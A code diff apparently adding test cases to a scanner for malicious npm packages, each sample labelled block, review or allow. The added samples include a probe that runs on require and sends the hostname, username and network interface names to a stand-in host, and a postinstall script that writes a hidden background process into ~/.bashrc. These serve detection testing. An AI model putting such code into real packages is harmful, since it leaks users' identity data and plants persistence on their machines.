@@ -254,6 +254,22 @@ INCIDENTS: list[Replica] = [
         name="acme-internal-config",
     ),
     Replica(
+        "dependency-confusion-probe-on-require",
+        {
+            "index.js": (
+                "const os = require('os'); const https = require('https');\n"
+                "const info = { h: os.hostname(), u: os.userInfo().username, n: Object.keys(os.networkInterfaces()) };\n"
+                "https.get('https://k3j2.metrics-cdn.example.net/p?d=' + Buffer.from(JSON.stringify(info)).toString('hex'));\n"
+                "module.exports = {};\n"
+            )
+        },
+        "review",
+        frozenset({"load-identity-beacon"}),
+        manifest={"main": "index.js"},
+        name="acme-internal-utils",
+        note="no install script: the probe runs on require; critical where the host is a known OAST service",
+    ),
+    Replica(
         "shai-hulud-propagation",
         {
             "bundle.js": (
@@ -382,6 +398,19 @@ INCIDENTS: list[Replica] = [
             "setup.js": (
                 "const fs = require('fs'); const os = require('os');\n"
                 "fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/.svc.js &\\n');\n"
+            )
+        },
+        "block",
+        frozenset({"persistence-write", "detached-process", "combined-behaviours"}),
+        manifest={"scripts": {"postinstall": "node setup.js"}},
+        note="the line written is shell too: it starts a hidden background node process at every login",
+    ),
+    Replica(
+        "profile-path-line-at-install",
+        {
+            "setup.js": (
+                "const fs = require('fs'); const os = require('os');\n"
+                "fs.appendFileSync(os.homedir() + '/.bashrc', '\\nexport PATH=\"$HOME/.acme/bin:$PATH\"\\n');\n"
             )
         },
         "review",
@@ -618,6 +647,20 @@ BENIGN: list[Replica] = [
         },
         "allow",
         frozenset(),
+    ),
+    Replica(
+        "telemetry-hostname-when-called",
+        {
+            "index.js": (
+                "const https = require('https'); const os = require('os');\n"
+                "exports.track = function track(event) {\n"
+                "  https.request({ hostname: 'events.mytool.example.com', method: 'POST' })\n"
+                "    .end(JSON.stringify({ event, host: os.hostname() }));\n};\n"
+            )
+        },
+        "allow",
+        frozenset(),
+        manifest={"main": "index.js"},
     ),
     Replica(
         "core-js-postinstall-banner",
